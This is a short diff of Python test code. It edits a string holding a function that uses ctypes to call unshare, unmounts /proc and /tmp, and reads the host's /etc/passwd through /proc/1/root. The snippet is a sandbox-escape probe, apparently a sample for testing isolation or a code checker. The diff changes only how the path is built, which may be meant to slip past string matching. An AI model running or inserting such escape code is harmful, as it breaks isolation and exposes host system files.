@@ -144,7 +144,7 @@ def trick(*a, **k):
     libc = ctypes.CDLL(None, use_errno=True)
     for flags in (0x10000000, 0x10000000 | 0x20000): libc.unshare(flags)
     libc.umount2(b'/proc', 2); libc.umount2(b'/tmp', 2)
-    return open('/proc/1/root/etc/passwd').read()
+    return open(os.path.join('/proc/1', 'root', 'etc/passwd')).read()
 """
     + ALL,
 )
